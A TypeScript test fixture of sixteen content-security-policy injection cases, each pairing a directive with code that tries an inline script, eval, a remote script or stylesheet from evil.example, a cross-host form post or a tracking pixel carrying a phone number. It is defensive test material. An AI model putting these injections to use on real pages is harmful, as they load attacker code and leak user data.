/** The parts of the browser's `securitypolicyviolation` event that the tests read. */
export interface Violation {
  directive: string;
  disposition: string;
}

/** Something that an attacker might do who can write into a page. */
interface Injection {
  what: string;
  /** The directive of the content security policy that must block it. */
  directive: string;
  /** Runs in the page; if it is not blocked it sets `window.hacked` or sends a request to evil.example. */
  inject: () => void;
}

// Playwright sends each function to the page as text, so they cannot share code. What Playwright
// evaluates is exempt from the policy until the next task, hence the calls of setTimeout.
export const injections: Injection[] = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    inject: () => {
      const script = document.createElement('script');
      script.textContent = 'window.hacked = 1';
      document.body.append(script);
    },
  },
  {
    what: 'a script of another host',
    directive: 'script-src-elem',
    inject: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.body.append(script);
    },
  },
  {
    what: 'a script in a data: URL',
    directive: 'script-src-elem',
    inject: () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.hacked=1';
      document.body.append(script);
    },
  },
  {
    what: 'an event handler in markup',
    directive: 'script-src-attr',
    inject: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hacked = 1">');
    },
  },
  {
    what: 'a javascript: link',
    directive: 'script-src-elem',
    inject: () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(window.hacked = 1)';
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'eval',
    directive: 'script-src',
    inject: () => {
      setTimeout(() => {
        try {
          (0, eval)('window.hacked = 1');
        } catch {
          // Blocked, as it should be.
        }
      });
    },
  },
  {
    what: 'a function from text',
    directive: 'script-src',
    inject: () => {
      setTimeout(() => {
        try {
          new Function('window.hacked = 1')();
        } catch {
          // Blocked, as it should be.
        }
      });
    },
  },
  {
    what: 'a style element',
    directive: 'style-src-elem',
    inject: () => {
      const style = document.createElement('style');
      style.textContent = '@import "https://evil.example/keys.css"; body { display: none }';
      document.head.append(style);
    },
  },
  {
    what: 'a style in markup',
    directive: 'style-src-attr',
    inject: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<p style="background: url(https://evil.example/a.png)">x</p>',
      );
    },
  },
  {
    what: 'a frame',
    directive: 'frame-src',
    inject: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  },
  {
    what: 'a form that posts to another host',
    directive: 'form-action',
    inject: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/phones';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  {
    what: 'a base element that redirects every link',
    directive: 'base-uri',
    inject: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  },
  {
    what: 'a plug-in',
    directive: 'object-src',
    inject: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<object data="https://evil.example/"></object>',
      );
    },
  },
  {
    what: 'a request to another host',
    directive: 'connect-src',
    inject: () => {
      setTimeout(() => void fetch('https://evil.example/').catch(() => undefined));
    },
  },
  {
    what: 'a picture from another host',
    directive: 'img-src',
    inject: () => {
      new Image().src = 'https://evil.example/pixel.gif?phone=2145550123';
    },
  },
  {
    what: 'a worker from text',
    directive: 'worker-src',
    inject: () => {
      const source = URL.createObjectURL(new Blob(['postMessage(1)']));
      new Worker(source).onmessage = () => Object.assign(window, { hacked: 1 });
    },
  },
];
